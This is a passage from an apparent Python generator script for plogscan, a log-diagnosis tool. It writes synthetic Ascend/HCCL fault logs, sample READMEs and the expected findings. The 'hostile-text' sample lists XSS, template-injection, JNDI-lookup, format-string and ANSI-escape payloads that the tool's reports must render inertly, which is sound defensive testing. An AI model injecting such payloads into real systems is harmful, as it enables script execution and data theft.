    return ("172.16.40.7", "192.168.1.11", "192.168.1.12", *((home,) if scenario.fault else ()))


# --------------------------------------------------------------------------- READMEs


def key_line_table(files: dict[str, list[Line]]) -> str:
    rows = ["| key line | file | line | timestamp |", "|---|---|---|---|"]
    for path in sorted(files):
        for i, ln in enumerate(files[path], 1):
            if ln.mark:
                m = HEADER_RE.match(ln.text)
                ts = f"`{m['ts']}`" if m else ""
                rows.append(f"| `{ln.mark}` | `{path}` | {i} | {ts} |")
    return "\n".join(rows)


def tree_listing(files: dict[str, list[Line]]) -> str:
    return "\n".join(f"{path}  ({len(lines)} lines)" for path, lines in sorted(files.items()))


README_HEAD = {
    "notify-timeout-two-hosts": """\
# Sample: two hosts, an out-of-memory on one and a notify timeout on the other

## What happened

A two-rank job on two hosts, collected per host (`worker-0/`, `worker-1/`) with each rank's
stdout and run plog. Rank 1 (host `node-a02`) runs out of device memory in the user's model
code; rank 0 (host `node-a01`) then waits for it in an all-reduce until HCCL's notify wait
times out (`EI0002`), naming rank 1's address as the abnormal device (heartbeat lost).

The logs name machines and people the way real jobs do: host directories, FQDNs from a
`hostname` line, `server[...]` values, host, device and IPv6 addresses, the engineer's home
directory and e-mail address, and an access token exported in the job script. This sample is
what `--redact` is tested on (`sensitive_values` in `_generate.py` lists the values).
""",
    "ccu-reuse-before-mc2": """\
# Sample: CCU context reused by an MC2 fused kernel, then a CCU fault (order A, DEBUG on)

## What happened

Two ranks on one Ascend 950 board (one process per rank, device 0 and 1, one HCCL communicator
`hccl_world_group`). The job ran with `ASCEND_GLOBAL_LOG_LEVEL=0` (DEBUG) and
`HCCL_ENTRY_LOG_ENABLE=1`. On each rank, in this order:

1. the communicator is created (`Entry-HcclCommInitRootInfoConfig`, `[HCCL_ENV]` lines);
2. an eager `torch.distributed.all_to_all_single` runs (`Entry-HcclAlltoAllV` in the run plog;
   in the debug plog HCCL misses its resource cache and creates a CCU context);
3. the MC2 fused operator `aclnnAlltoAllvQuantGroupedMatMul` (`torch_npu.npu_alltoallv_quant_gmm`)
   runs; HCCL logs the DEBUG record `Already have context, skip create, ctxSize is 1`: its resource
   lookup hit the CCU context the eager collective created;
4. the fused kernel faults on the CCU (`exception occurred during fusion kernel task execution`,
   `ccu task print`, aicore `timeout or trap error` on cores 0-3,
   `fault kernel_name=AlltoAllvQuantGroupedMatMul_…`, `ErrCode=507916, desc=[ccu exception]`), and
   `torch.npu.synchronize()` raises `RuntimeError: … error code is 507916`.

Rank 0 logs its fault about 34 ms before rank 1, so the first-error rank is 0.
""",
    "mc2-before-eager": """\
# Sample: MC2 fused operator first, then the eager collective (order B, DEBUG on) - clean

## What happened

The same two-rank job as `ccu-reuse-before-mc2`, DEBUG logging on, but the order is reversed: the
MC2 fused operator `aclnnAlltoAllvQuantGroupedMatMul` runs first, then the eager
`all_to_all_single`. Each of them misses the HCCL resource cache and creates its own CCU context,
so no `Already have context, skip create` record appears. Nothing fails: both ranks destroy the
communicator and their stdout ends with `rank N finished OK`. The debug plogs hold DEBUG, INFO and
WARNING records only; there is no ERROR record anywhere.

The two samples are a pair: this one is written from the same seed as `ccu-reuse-before-mc2`, with
the same background noise, other pids and a later start. What only the failing run logs is what
the order of the two steps changes: `plogscan diff samples/mc2-before-eager
samples/ccu-reuse-before-mc2` names the `Already have context, skip create` record first, then the
fault and what follows from it.
""",
    "ccu-reuse-no-debug": """\
# Sample: order A with default log levels (no DEBUG) - the flagship rule cannot be checked

## What happened

The same failing two-rank job as `ccu-reuse-before-mc2` (eager `all_to_all_single`, then the MC2
fused operator, then a CCU fault of the fused kernel, `error code is 507916`), but run with the
default log levels: `ASCEND_GLOBAL_LOG_LEVEL` is not set (TDT prints
`get ASCEND_GLOBAL_LOG_LEVEL [] …`, the aicpu scheduler starts with `logLevel=3`). So the debug
plogs hold ERROR records only, the run plogs INFO/EVENT records only, and there is no DEBUG record
at all: whether HCCL reused a cached CCU context cannot be seen. The run plogs still show the
eager `Entry-HcclAlltoAllV` call (HCCL_ENTRY_LOG_ENABLE=1).
""",
    "ccu-reuse-pasted": """\
# Sample: the founding case as its reporter pasted it

## What happened

The failure this project was founded on, as the engineer who reported it pasted it: one file
(`pasted.log`), no CANN header on any line (no module, no process id, no timestamp), a note in
Chinese before each step and an arrow after the DEBUG line. Step A is the eager
`all_to_all_single`, after which HCCL's debug log shows `[DEBUG] Already have context, skip
create` (its resource lookup reused a cached CCU context); step B is the MC2 fused operator,
whose kernel faults on the CCU: `torch.npu.synchronize()` raises `RuntimeError: … error code is
507916` and the device report (`exception occurred during fusion kernel task execution`, `ccu
task print`, aicore `timeout or trap error`) follows, its lines indented as a terminal shows them.

The lines carry no module and no level of a header: the rules decide by their text, and the
pasted DEBUG line is itself the evidence that HCCL DEBUG logging was on.
""",
    "hostile-text": """\
# Sample: hostile text in log records (report safety)

## What happened

A single-process run whose records carry text that is dangerous if a report interprets it
instead of showing it: `<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`, markdown
fences, table pipes, links and remote images (a multi-line record whose continuation lines are
markdown), ANSI escape sequences (colour, clear screen, window title, OSC 8 hyperlink), template
and format-string syntax (`{{7*7}}`, `{0}`, `%n`, `${jndi:…}`), a right-to-left override
character, a process name that is markup, and a record longer than the 1022-character CANN line
limit with the payload at its end. The hostile text sits inside a real fault: an HCCL
`Already have context` record followed by a CCU fusion-kernel fault whose kernel name and aicore
records carry the payloads, so the findings' evidence, captures and descriptions all hold it.

Every output format must render this text as inert text: nothing executes, nothing is fetched
from the network, terminal output carries no raw escape sequences, and markdown output cannot be
broken out of its code blocks or tables.
""",
}

EXPECTED = {
    "notify-timeout-two-hosts": """\
## What `plogscan diagnose` must report

Exit code **1**, with at least:

| rule | category | level | verdict | scope |
|---|---|---|---|---|
| `MEM001` | `device-oom` | error | `match` | rank 1, host `worker-1` |
| `HCCL002` | `hccl-notify-timeout` | error | `match` | rank 0, host `worker-0` |

With `--redact --redact-pattern 'hf_[A-Za-z0-9]{{20,}}'` no output (any report format, stderr,
`--events-out`, `ingest`, `events`) holds any of the host IPs, device IPs, IPv6 addresses,
host directories, FQDNs, short host names, the home directory's user, the e-mail address or
the token; `CANN version: 8.0.0.1` stays as written.
""",
    "ccu-reuse-before-mc2": """\
## What `plogscan diagnose` must report

Exit code **1** (default `--fail-on error`).

| rule | category | level | verdict | scope |
|---|---|---|---|---|
| `CCU001` (flagship) | `ccu-context-reuse` | critical | `match` | rank 0, pid {pid0}, device 0 |
| `CCU001` (flagship) | `ccu-context-reuse` | critical | `match` | rank 1, pid {pid1}, device 1 |
| `CCU002` (plain CCU/fused-kernel fault) | `ccu-exception` | error | `match` | each rank |
| `AIC001` (plain aicore exception) | `aicore-exception` | error | `match` | each rank |

Each flagship finding holds, as evidence with path and line: the eager `Entry-HcclAlltoAllV`
entry (step before the reuse), the `Already have context, skip create, ctxSize is 1` record, and
the fault records; the time between reuse and fault; kernel `{kernel}`, stream 61, task 90 and the
device. The first error is on rank 0. Knowledge-base rules may add findings for the same records
(for example 507916 / EZ9999 wrappers); the end-to-end golden pins the complete list.
""",
    "mc2-before-eager": """\
## What `plogscan diagnose` must report

Exit code **0**: no finding at or above `error`, and in particular no `CCU001`, `CCU002` or
`AIC001` finding. DEBUG records are present for both processes, so the flagship rule is
evaluable and reports nothing (it is never `not_evaluable` here: no fault occurred).
""",
    "ccu-reuse-no-debug": """\
## What `plogscan diagnose` must report

Exit code **1**.

| rule | category | level | verdict | scope |
|---|---|---|---|---|
| `CCU001` (flagship) | `ccu-context-reuse` | critical | `not_evaluable` | rank 0, pid {pid0} |
| `CCU001` (flagship) | `ccu-context-reuse` | critical | `not_evaluable` | rank 1, pid {pid1} |
| `CCU002` (plain CCU/fused-kernel fault) | `ccu-exception` | error | `match` | each rank |
| `AIC001` (plain aicore exception) | `aicore-exception` | error | `match` | each rank |

The `not_evaluable` finding says that HCCL DEBUG records are missing for the faulting processes
and how to get them: `export ASCEND_GLOBAL_LOG_LEVEL=0` (or `ASCEND_MODULE_LOG_LEVEL=HCCL=0` for
HCCL alone) and rerun. It must not be reported as "no reuse found".
""",
    "ccu-reuse-pasted": """\
## What `plogscan diagnose` must report

Exit code **1**. The answer (the first incident) is the flagship rule:

| rule | category | level | verdict | scope |
|---|---|---|---|---|
| `CCU001` (flagship) | `ccu-context-reuse` | critical | `match` | `pasted.log` (one process) |
| `CCU002` (plain CCU/fused-kernel fault) | `ccu-exception` | error | `match` | the same |
| `AIC001` (plain aicore exception) | `aicore-exception` | error | `match` | the same |

The flagship finding's evidence is its two steps: `reuse`, the pasted DEBUG line (line 3), and
`fault`, the `RuntimeError` (line 6) and the device report (lines 8-16, one record). It is never
`not_evaluable`: the pasted DEBUG line shows the step it needs.
""",
    "hostile-text": """\
## What `plogscan diagnose` must report

Exit code **1**, with at least:

| rule | category | level | verdict | scope |
|---|---|---|---|---|
| `CCU001` (flagship) | `ccu-context-reuse` | critical | `match` | pid {pid0} |
| `CCU002` | `ccu-exception` | error | `match` | pid {pid0} |
| `AIC001` | `aicore-exception` | error | `match` | pid {pid0} |

In every format (text, JSON, HTML, markdown, SARIF, JUnit) the payloads appear as literal text:
HTML-escaped in HTML (no element, attribute or script is created from log text, no remote load),
escape characters neutralised in terminal text, and fenced or escaped so they cannot end a code
block or a table in markdown. JSON and SARIF carry the exact strings, validly encoded.
""",
}


def readme(
    name: str, files: dict[str, list[Line]], pids: tuple[int, ...], generated_note: str
) -> str:
    expected = EXPECTED[name].format(pid0=pids[0], pid1=pids[-1], kernel=MC2_KERNEL)
    return (
        README_HEAD[name]
        + "\n"
        + expected
        + "\n## Files\n\n```\n"
        + tree_listing(files)
        + "\n```\n"
        + "\n## Key lines\n\n"
        + key_line_table(files)
        + "\n\n"
        + generated_note
        + "\n"
    )


GENERATED_NOTE = (
    "All files here, this README included, are written by `samples/_generate.py` (seeded, stdlib "
    "only); edit the script and rerun it instead of editing the files. The log lines are written "
    "for plogscan in the shapes CANN, HCCL and torch_npu use; ids, addresses and times are "
    "invented."
)


PASTED_NOTE = (
    "All files here, this README included, are written by `samples/_generate.py` (stdlib only); "
    "edit the script and rerun it instead of editing the files. `pasted.log` is the excerpt as "
    "its reporter pasted it, word for word."
)


# --------------------------------------------------------------------------- driver


SCENARIOS = [
    Scenario(
        "ccu-reuse-before-mc2",
        seed=11,
        order="A",
        debug_on=True,
        fault=True,
        base=datetime(2026, 3, 17, 14, 2, 11, 482_377),
        pids=(276431, 276432),
        devpids=(9120, 9184),
        compute_noise=800,
        script="/home/dev/mc2_repro/repro_a2a_gmm.py",
    ),
    Scenario(
        "mc2-before-eager",
        seed=11,
        order="B",
        debug_on=True,
        fault=False,
        base=datetime(2026, 3, 17, 15, 20, 44, 107_950),
        pids=(281907, 281908),
        devpids=(9402, 9466),
        compute_noise=800,
        script="/home/dev/mc2_repro/repro_a2a_gmm.py",
        noise_of="ccu-reuse-before-mc2",
    ),
    Scenario(
        "ccu-reuse-no-debug",
        seed=37,
        order="A",
        debug_on=False,
        fault=True,
        base=datetime(2026, 3, 18, 10, 8, 3, 661_204),
        pids=(301556, 301557),
        devpids=(10233, 10297),
        compute_noise=800,
        script="/home/dev/mc2_repro/repro_a2a_gmm.py",
        long_error_form=True,
    ),
]


def render(lines: list[Line]) -> str:
    return "".join(ln.text + "\n" for ln in lines)


def build_all() -> dict[str, str]:
    """Every generated file, as path relative to ``samples/`` -> text."""
    out: dict[str, str] = {}
    built: dict[str, list[Proc]] = {}
    for sc in SCENARIOS:
        files, built[sc.name] = build_scenario(
            sc, built[sc.noise_of] if sc.noise_of is not None else None)
        for path, lines in files.items():
            out[f"{sc.name}/{path}"] = render(lines)
        out[f"{sc.name}/README.md"] = readme(sc.name, files, sc.pids, GENERATED_NOTE)
    files = build_hostile()
    for path, lines in files.items():
        out[f"hostile-text/{path}"] = render(lines)
    out["hostile-text/README.md"] = readme("hostile-text", files, (40961,), GENERATED_NOTE)
    files = build_two_hosts()
    for path, lines in files.items():
        out[f"notify-timeout-two-hosts/{path}"] = render(lines)
    out["notify-timeout-two-hosts/README.md"] = readme("notify-timeout-two-hosts", files,
                                                       (51820, 51827), GENERATED_NOTE)
    files = build_pasted()
    for path, lines in files.items():
        out[f"ccu-reuse-pasted/{path}"] = render(lines)
    out["ccu-reuse-pasted/README.md"] = readme("ccu-reuse-pasted", files, (0,), PASTED_NOTE)
    return out


# Every tree this script writes.
GENERATED = (*(sc.name for sc in SCENARIOS), "hostile-text", "notify-timeout-two-hosts",
             "ccu-reuse-pasted")


def write_all(root: Path) -> list[Path]:
    written = []
    for rel, text in sorted(build_all().items()):
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        with open(path, "w", encoding="utf-8", newline="\n") as fh:
            fh.write(text)
        written.append(path)
    return written


def line_stats(path: Path) -> tuple[int, int, int, int]:
    """(lines, header lines, indented continuation lines, other lines) of one plog file."""
    n = hdr = cont = other = 0
    with open(path, encoding="utf-8", newline="\n") as fh:
        for raw in fh.read().split("\n")[:-1]:
            n += 1
            if HEADER_RE.match(raw):
                hdr += 1
            elif raw[:1] in (" ", "\t") or raw.startswith(("```", "#", "|", "</")):
                cont += 1
            else:
                other += 1
    return n, hdr, cont, other


def check() -> int:
    """Regenerate into a temp dir; compare with the committed trees; print per-file stats."""
    names = GENERATED
    ok = True
    with tempfile.TemporaryDirectory() as tmp:
        fresh = Path(tmp)
        write_all(fresh)
        for name in names:
            want = sorted(q.relative_to(fresh) for q in (fresh / name).rglob("*") if q.is_file())
            have = sorted(
                q.relative_to(SAMPLES_DIR) for q in (SAMPLES_DIR / name).rglob("*") if q.is_file()
            )
            if want != have:
                ok = False
                print(
                    f"{name}: file list differs: extra {set(have) - set(want)}, "
                    f"missing {set(want) - set(have)}"
                )
            for rel in want:
                if (SAMPLES_DIR / rel).is_file() and not filecmp.cmp(
                    fresh / rel, SAMPLES_DIR / rel, shallow=False
                ):
                    ok = False
                    print(f"{rel}: differs from a fresh generation")
    print(f"{'file':95} {'lines':>6} {'header':>6} {'cont':>5} {'other':>5}")
    for name in names:
        size = 0
        for q in sorted((SAMPLES_DIR / name).rglob("*")):
            if not q.is_file():
                continue
            size += q.stat().st_size
            if "/process_log/" in q.as_posix():
                n, hdr, cont, other = line_stats(q)
                ok &= other == 0
                print(
                    f"{q.relative_to(SAMPLES_DIR).as_posix():95} {n:6} {hdr:6} {cont:5} {other:5}"
                )
        print(f"{name}: {size} bytes in total")
    print("OK" if ok else "FAILED")
    return 0 if ok else 1


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument(
        "--check",
        action="store_true",
        help="compare a fresh generation with the files on disk and print stats",
    )
    args = ap.parse_args(argv)
    if args.check:
        return check()
    for name in GENERATED:
        if (SAMPLES_DIR / name).is_dir():
            shutil.rmtree(SAMPLES_DIR / name)
    for path in write_all(SAMPLES_DIR):
        print(path.relative_to(SAMPLES_DIR))
    return 0


if __name__ == "__main__":
    sys.exit(main())
